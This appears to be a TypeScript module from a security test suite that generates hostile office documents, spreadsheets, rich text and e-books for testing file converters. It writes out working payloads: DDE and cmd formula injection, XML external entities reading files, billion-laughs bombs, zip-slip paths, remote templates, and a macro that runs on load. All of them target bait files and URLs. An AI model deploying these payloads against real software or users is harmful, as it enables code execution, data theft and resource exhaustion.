/** Office documents and books: zip archives of XML with links, fields, macros and formulas. */
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import type { Bait } from '../kit/bait.ts';
import { type ZipMember, zip } from '../make/zip.ts';
import { CHEAP, type HostileInput, input } from './input.ts';
import { entity, LAUGHS } from './xml.ts';

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const SHEET = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

type Relation = readonly [id: string, type: string, target: string, mode?: 'External'];

function relations(list: readonly Relation[]): string {
  const rows = list.map(
    ([id, type, target, mode]) =>
      `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`,
  );
  return `${XML}<Relationships xmlns="${PACKAGE}/relationships">${rows.join('')}</Relationships>`;
}

function types(parts: Readonly<Record<string, string>>): string {
  const overrides = Object.entries(parts).map(
    ([name, type]) =>
      `<Override PartName="/${name}" ContentType="application/vnd.openxmlformats-officedocument.${type}+xml"/>`,
  );
  return `${XML}<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides.join('')}</Types>`;
}

interface Word {
  readonly body: string;
  readonly declare?: string;
  readonly links?: readonly Relation[];
  readonly settings?: string;
  readonly settingsLinks?: readonly Relation[];
}

function docx({ body, declare = '', links = [], settings = '', settingsLinks = [] }: Word): Buffer {
  const names = `xmlns:w="${WORD}" xmlns:r="${OFFICE}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"`;
  return zip([
    {
      name: '[Content_Types].xml',
      content: types({
        'word/document.xml': 'wordprocessingml.document.main',
        'word/settings.xml': 'wordprocessingml.settings',
      }),
    },
    { name: '_rels/.rels', content: relations([['r1', 'officeDocument', 'word/document.xml']]) },
    {
      name: 'word/document.xml',
      content: `${XML}${declare}<w:document ${names}><w:body>${body}</w:body></w:document>`,
    },
    {
      name: 'word/_rels/document.xml.rels',
      content: relations([['s1', 'settings', 'settings.xml'], ...links]),
    },
    { name: 'word/settings.xml', content: `${XML}<w:settings ${names}>${settings}</w:settings>` },
    ...(settingsLinks.length > 0
      ? [{ name: 'word/_rels/settings.xml.rels', content: relations(settingsLinks) }]
      : []),
  ]);
}

const paragraph = (content: string) => `<w:p><w:r><w:t xml:space="preserve">${content}</w:t></w:r></w:p>`;

const field = (code: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const picture = (link: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${link}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

const linkedWord = (bait: Bait) =>
  docx({
    body:
      picture('p1') +
      picture('p2') +
      field(`INCLUDEPICTURE "${bait.file('png')}" \\d`) +
      field(`INCLUDETEXT "${bait.file('txt')}"`) +
      field(`DDEAUTO sh "-c" "touch ${bait.target('dde')}"`) +
      field(`IMPORT "${bait.url}/import.png"`) +
      '<w:altChunk r:id="c1"/><w:subDoc r:id="d1"/>' +
      `<w:p><w:r><w:object><v:shape><v:imagedata r:href="p1"/></v:shape><o:OLEObject Type="Link" ProgID="Package" ShapeID="x" DrawAspect="Content" r:id="o1" UpdateMode="Always"/></w:object></w:r></w:p>` +
      paragraph('text'),
    links: [
      ['p1', 'image', `file://${bait.file('png')}`, 'External'],
      ['p2', 'image', `${bait.url}/image.png`, 'External'],
      ['c1', 'aFChunk', `file://${bait.file('html')}`, 'External'],
      ['d1', 'subDocument', `file://${bait.file('txt')}`, 'External'],
      ['o1', 'oleObject', `file://${bait.file('txt')}`, 'External'],
    ],
    settings:
      '<w:attachedTemplate r:id="t1"/><w:mailMerge><w:dataSource r:id="m1"/></w:mailMerge><w:updateFields w:val="true"/>',
    settingsLinks: [
      ['t1', 'attachedTemplate', `${bait.url}/template.dotm`, 'External'],
      ['m1', 'mailMergeSource', `file://${bait.file('csv')}`, 'External'],
    ],
  });

/** @param cells rows, as XML */
function xlsx(
  cells: string,
  others: readonly ZipMember[] = [],
  strings?: string,
  links: readonly Relation[] = [],
  book = '',
): Buffer {
  return zip([
    {
      name: '[Content_Types].xml',
      content: types({
        'xl/workbook.xml': 'spreadsheetml.sheet.main',
        'xl/worksheets/sheet1.xml': 'spreadsheetml.worksheet',
        ...(strings !== undefined && { 'xl/sharedStrings.xml': 'spreadsheetml.sharedStrings' }),
        ...(links.length > 0 && { 'xl/externalLinks/externalLink1.xml': 'spreadsheetml.externalLink' }),
      }),
    },
    { name: '_rels/.rels', content: relations([['r1', 'officeDocument', 'xl/workbook.xml']]) },
    {
      name: 'xl/workbook.xml',
      content: `${XML}<workbook xmlns="${SHEET}" xmlns:r="${OFFICE}"><sheets><sheet name="s" sheetId="1" r:id="s1"/></sheets>${book}</workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content: relations([
        ['s1', 'worksheet', 'worksheets/sheet1.xml'],
        ...(strings !== undefined ? [['s2', 'sharedStrings', 'sharedStrings.xml'] as const] : []),
        ...links,
      ]),
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      content: `${XML}<worksheet xmlns="${SHEET}" xmlns:r="${OFFICE}"><sheetData>${cells}</sheetData></worksheet>`,
    },
    ...(strings !== undefined ? [{ name: 'xl/sharedStrings.xml', content: strings }] : []),
    ...others,
  ]);
}

function* rows(count: number): Generator<string> {
  for (let row = 1; row <= count; row++) yield `<row r="${row}"><c r="A${row}"><v>1</v></c></row>`;
}

const formula = (row: number, text: string) =>
  `<row r="${row}"><c r="A${row}" t="str"><f>${text}</f><v>old</v></c></row>`;

const linkedSheet = (bait: Bait) =>
  xlsx(
    formula(1, `WEBSERVICE("${bait.url}/webservice")`) +
      formula(2, `WEBSERVICE("file://${bait.file('txt')}")`) +
      formula(3, '[1]s!A1') +
      formula(4, `'file://${bait.file('csv')}'#$s.A1`) +
      formula(5, `HYPERLINK("${bait.url}")`),
    [
      {
        name: 'xl/externalLinks/externalLink1.xml',
        content: `${XML}<externalLink xmlns="${SHEET}" xmlns:r="${OFFICE}"><externalBook r:id="e1"><sheetNames><sheetName val="s"/></sheetNames></externalBook></externalLink>`,
      },
      {
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        content: relations([['e1', 'externalLinkPath', `file://${bait.file('csv')}`, 'External']]),
      },
    ],
    undefined,
    [['x1', 'externalLink', 'externalLinks/externalLink1.xml']],
    '<externalReferences><externalReference r:id="x1"/></externalReferences><calcPr fullCalcOnLoad="1"/>',
  );

const NAMES = `xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"`;

/** @param kind the media type's last part */
function open(
  kind: 'text' | 'spreadsheet',
  content: string,
  others: readonly ZipMember[] = [],
  declare = '',
): Buffer {
  const type = `application/vnd.oasis.opendocument.${kind}`;
  const entries = ['content.xml', ...others.map(({ name }) => name)].map(
    (name) => `<m:file-entry m:full-path="${name}" m:media-type=""/>`,
  );
  return zip([
    { name: 'mimetype', content: type, stored: true },
    {
      name: 'content.xml',
      content: `${XML}${declare}<office:document-content ${NAMES} office:version="1.3">${content}</office:document-content>`,
    },
    ...others,
    {
      name: 'META-INF/manifest.xml',
      content: `${XML}<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" m:version="1.3"><m:file-entry m:full-path="/" m:media-type="${type}"/>${entries.join('')}</m:manifest>`,
    },
  ]);
}

const listener = (where: string) =>
  `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:${where}" xlink:type="simple"/></office:event-listeners></office:scripts>`;

const image = (href: string) =>
  `<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="${href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`;

const letter = (text: string) =>
  `<office:body><office:text><text:p>${text}</text:p></office:text></office:body>`;

const linkedText = (bait: Bait) =>
  open(
    'text',
    `${listener('x.py$main?language=Python&amp;location=document')}<office:body><office:text>${image(`file://${bait.file('png')}`)}${image(`${bait.url}/image.png`)}${image(`../../../../../../../../../../..${bait.file('png')}`)}<text:section text:name="s"><text:section-source xlink:href="file://${bait.file('txt')}" xlink:type="simple"/><text:p>old</text:p></text:section><text:p>text</text:p></office:text></office:body>`,
    [
      {
        name: 'Scripts/python/x.py',
        content: `def main(*args):\n    open(${JSON.stringify(bait.target('python'))}, 'w')\n`,
      },
      {
        name: 'meta.xml',
        content: `${XML}<office:document-meta ${NAMES} xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" office:version="1.3"><office:meta><meta:auto-reload xlink:href="${bait.url}/reload" meta:delay="PT1S"/><meta:template xlink:href="${bait.url}/template.ott"/></office:meta></office:document-meta>`,
      },
    ],
  );

const openCell = (code: string) =>
  `<table:table-row><table:table-cell table:formula="of:=${code}" office:value-type="string"><text:p>old</text:p></table:table-cell></table:table-row>`;

const linkedOpenSheet = (bait: Bait) => {
  const web = (url: string) => openCell(`WEBSERVICE(&quot;${url}&quot;)`);
  const cells =
    web(`${bait.url}/ods`) +
    web(`file://${bait.file('txt')}`) +
    openCell(`'file://${bait.file('csv')}'#$s.A1`) +
    openCell('DDE(&quot;soffice&quot;;&quot;/etc/hostname&quot;;&quot;A1&quot;)');
  const source = `<table:table-source xlink:type="simple" xlink:href="file://${bait.file('csv')}" table:filter-name="Text - txt - csv (StarCalc)" table:table-name="secret"/>`;
  return open(
    'spreadsheet',
    `<office:body><office:spreadsheet><table:table table:name="s">${cells}</table:table><table:table table:name="t">${source}<table:table-row><table:table-cell/></table:table-row></table:table></office:spreadsheet></office:body>`,
  );
};

const epub = (chapter: string, manifest = '', others: readonly ZipMember[] = []) =>
  zip([
    { name: 'mimetype', content: 'application/epub+zip', stored: true },
    {
      name: 'META-INF/container.xml',
      content: `${XML}<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`,
    },
    {
      name: 'book.opf',
      content: `${XML}<package xmlns="http://www.idpf.org/2007/opf" version="2.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>t</dc:title><dc:language>en</dc:language><dc:identifier id="i">x</dc:identifier></metadata><manifest><item id="c" href="chapter.xhtml" media-type="application/xhtml+xml"/>${manifest}</manifest><spine><itemref idref="c"/>${manifest && '<itemref idref="s"/>'}</spine></package>`,
    },
    { name: 'chapter.xhtml', content: chapter },
    ...others,
  ]);

const chapter = (body: string, declare = '') =>
  `${XML}${declare}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body><p>text ${body}</p></body></html>`;

const linkedBook = (bait: Bait) => {
  const up = `../../../../../../../../../../..${bait.file('html')}`;
  return epub(
    chapter(
      `<img src="file://${bait.file('png')}"/><img src="${up.replace('.html', '.png')}"/><img src="${bait.url}/image.png"/><iframe src="file://${bait.file('html')}"/><a href="${up}">x</a>`,
    ),
    `<item id="s" href="${up}" media-type="application/xhtml+xml"/><item id="p" href="file://${bait.file('png')}" media-type="image/png"/>`,
    [{ name: `../../../../../../../..${bait.target('epub')}`, content: 'pwned' }],
  );
};

const fixture = (path: string) => readFile(fileURLToPath(new URL(`../../fixtures/${path}`, import.meta.url)));

const rtf = (bait: Bait) =>
  `{\\rtf1{\\*\\template ${bait.url}/template.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "file://${bait.file('png')}" \\\\d}{\\fldrslt old}}{\\field\\flddirty{\\*\\fldinst INCLUDETEXT "${bait.file('txt')}"}{\\fldrslt old}}{\\field{\\*\\fldinst INCLUDEPICTURE "${bait.url}/x.png"}{\\fldrslt old}}{\\object\\objautlink\\objupdate{\\*\\objdata 010500000200000008000000}}text\\par}`;

export const office: readonly HostileInput[] = [
  input(
    'read',
    'a Word document with links to pictures, texts, templates and programs',
    'links.docx',
    ['docx', 'pdf', 'odt', 'txt', 'html', 'epub'],
    linkedWord,
  ),
  input(
    'read',
    'a Word document with an entity that is a file',
    'entity.docx',
    ['docx', 'txt', 'md', 'pdf'],
    (bait) => docx({ body: paragraph('&x;&called;'), declare: entity(bait) }),
  ),
  input(
    'exhaust',
    'a Word document with an entity of a thousand million words',
    'laughs.docx',
    ['docx', 'txt', 'pdf'],
    () => docx({ body: paragraph('&x;'), declare: LAUGHS }),
  ),
  input('exhaust', 'a Word document of a million paragraphs', 'long.docx', ['docx', 'pdf', 'txt'], () =>
    docx({ body: paragraph('text').repeat(1_000_000) }),
  ),
  input(
    'read',
    'an Excel workbook with links to files and addresses',
    'links.xlsx',
    ['xlsx', 'csv', 'pdf', 'ods'],
    linkedSheet,
  ),
  input(
    'read',
    'an Excel workbook with an entity that is a file',
    'entity.xlsx',
    ['xlsx', 'csv', 'pdf'],
    (bait) =>
      xlsx(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
        [],
        `${XML}${entity(bait)}<sst xmlns="${SHEET}"><si><t>&x;&called;</t></si></sst>`,
      ),
  ),
  input(
    'exhaust',
    'an Excel workbook with a text of a thousand million words',
    'laughs.xlsx',
    ['xlsx', 'csv', 'pdf'],
    () =>
      xlsx(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
        [],
        `${XML}${LAUGHS}<sst xmlns="${SHEET}"><si><t>&x;</t></si></sst>`,
      ),
  ),
  input(
    'exhaust',
    'an Excel workbook with a text of a gigabyte',
    'text.xlsx',
    ['xlsx', 'csv', 'json'],
    () => {
      const text = 'x'.repeat(128 * 1024 ** 2);
      return xlsx(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
        [],
        `${XML}<sst xmlns="${SHEET}"><si><t>${text}</t></si><si><t>${text}</t></si></sst>`,
      );
    },
  ),
  input('exhaust', 'an Excel workbook with 1,048,576 rows', 'rows.xlsx', ['xlsx', 'csv', 'pdf'], () =>
    xlsx([...rows(1_048_576)].join('')),
  ),
  input(
    'exhaust',
    'an Excel workbook with a cell in its last place',
    'last.xlsx',
    ['xlsx', 'csv', 'pdf', 'html'],
    () => xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
  ),
  input(
    'exhaust',
    'an OpenDocument sheet with 1,048,576 rows of 16,384 cells',
    'rows.ods',
    ['ods', 'csv', 'xlsx', 'pdf'],
    () =>
      open(
        'spreadsheet',
        '<office:body><office:spreadsheet><table:table table:name="s"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>',
      ),
  ),
  input(
    'read',
    'an OpenDocument sheet with links to files and addresses',
    'links.ods',
    ['ods', 'csv', 'pdf', 'xlsx'],
    linkedOpenSheet,
  ),
  input(
    'read',
    'an OpenDocument text with links and a macro in Python',
    'links.odt',
    ['odt', 'pdf', 'docx', 'md', 'epub'],
    linkedText,
  ),
  input(
    'read',
    'an OpenDocument text with an entity that is a file',
    'entity.odt',
    ['odt', 'txt', 'pdf', 'md'],
    (bait) => open('text', letter('&x;&called;'), [], entity(bait)),
  ),
  input(
    'exhaust',
    'an OpenDocument text with an entity of a thousand million words',
    'laughs.odt',
    ['odt', 'txt', 'md'],
    () => open('text', letter('&x;'), [], LAUGHS),
  ),
  input('write', 'a sheet with a macro', 'macro.ods', ['ods', 'pdf', 'csv'], () =>
    fixture('sheets/macro.ods'),
  ),
  input(
    'read',
    'a table whose cells are formulas',
    'formulas.csv',
    ['csv', 'ods', 'xlsx', 'pdf', 'html'],
    (bait) =>
      `name,word\n"=WEBSERVICE(""${bait.url}"")","='file://${bait.file('csv')}'#$secret.A1"\n"=cmd|'/C touch ${bait.target('csv')}'!A0","=DDE(""soffice"",""${bait.file('txt')}"",""A1"")"\n`,
    CHEAP,
  ),
  input(
    'read',
    'a SYLK sheet with formulas',
    'formulas.slk',
    ['slk', 'csv', 'pdf', 'ods'],
    (bait) =>
      `ID;P\nC;X1;Y1;EWEBSERVICE("${bait.url}")\nC;X1;Y2;E'file://${bait.file('csv')}'#$secret.A1\nC;X1;Y3;K"x"\nE\n`,
  ),
  input(
    'read',
    'a rich text with links to pictures, texts and templates',
    'links.rtf',
    ['rtf', 'pdf', 'docx', 'epub', 'txt'],
    rtf,
  ),
  input(
    'exhaust',
    'a rich text with a million nested groups',
    'deep.rtf',
    ['rtf', 'pdf', 'epub'],
    () => `{\\rtf1 ${'{\\b '.repeat(1_000_000)}x${'}'.repeat(1_000_000)}}`,
  ),
  input(
    'read',
    'a book with links to files and addresses',
    'links.epub',
    ['epub', 'azw3', 'docx', 'md', 'txt'],
    linkedBook,
  ),
  input('read', 'a book with an entity that is a file', 'entity.epub', ['epub', 'azw3', 'txt'], (bait) =>
    epub(chapter('&x;&called;', entity(bait))),
  ),
  input(
    'exhaust',
    'a book with an entity of a thousand million words',
    'laughs.epub',
    ['epub', 'mobi', 'md'],
    () => epub(chapter('&x;', LAUGHS)),
  ),
  input('read', 'a zipped page with files above it', 'up.htmlz', ['htmlz', 'epub', 'azw3'], (bait) =>
    zip([
      {
        name: 'index.html',
        content: `<p>text<img src="../../../../../../..${bait.file('png')}"><img src="file://${bait.file('png')}"></p>`,
      },
      { name: `../../../../../../..${bait.target('htmlz')}`, content: 'pwned' },
    ]),
  ),
  input(
    'read',
    'a presentation with pictures and sounds from elsewhere',
    'links.fodp',
    ['fodp', 'pdf', 'odp'],
    (bait) =>
      `${XML}<office:document ${NAMES} xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.presentation"><office:body><office:presentation><draw:page draw:name="p"><draw:frame svg:width="5cm" svg:height="5cm" svg:x="1cm" svg:y="1cm"><draw:image xlink:href="file://${bait.file('png')}" xlink:type="simple"/></draw:frame><draw:frame svg:width="5cm" svg:height="5cm"><draw:plugin xlink:href="${bait.url}/film.mp4" xlink:type="simple" draw:mime-type="application/vnd.sun.star.media"/></draw:frame></draw:page></office:presentation></office:body></office:document>`,
  ),
];
